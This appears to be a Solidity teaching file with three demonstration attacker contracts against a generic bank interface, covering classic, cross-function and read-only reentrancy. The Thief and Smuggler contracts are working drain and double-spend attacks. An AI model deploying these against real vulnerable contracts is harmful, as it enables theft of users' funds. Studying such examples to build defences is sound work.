// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IBank {
    function deposit() external payable;
    function withdraw() external;
    function transfer(address to, uint256 amount) external;
    function balanceOf(address account) external view returns (uint256);
}

// #region attack
contract Thief {
    IBank private immutable BANK;

    constructor(IBank bank) {
        BANK = bank;
    }

    function attack() external payable {
        BANK.deposit{value: msg.value}();
        BANK.withdraw();
    }

    receive() external payable {
        // Called in the middle of withdraw(): our balance is still on the books.
        if (address(BANK).balance >= msg.value) BANK.withdraw();
    }
}
// #endregion attack

// #region second
/// Enters by another function: moves the balance to an accomplice while it is being paid out.
contract Smuggler {
    IBank private immutable BANK;
    address private immutable ACCOMPLICE;

    constructor(IBank bank, address accomplice) {
        (BANK, ACCOMPLICE) = (bank, accomplice);
    }

    function attack() external payable {
        BANK.deposit{value: msg.value}();
        BANK.withdraw();
    }

    receive() external payable {
        BANK.transfer(ACCOMPLICE, msg.value);
    }
}

/// Enters nowhere: it reads what a third contract would see in the middle of the payment.
contract Reader {
    IBank private immutable BANK;
    uint256 public seen = 1;

    constructor(IBank bank) {
        BANK = bank;
    }

    function look() external payable {
        BANK.deposit{value: msg.value}();
        BANK.withdraw();
    }

    receive() external payable {
        seen = BANK.balanceOf(address(this));
    }
}
// #endregion second
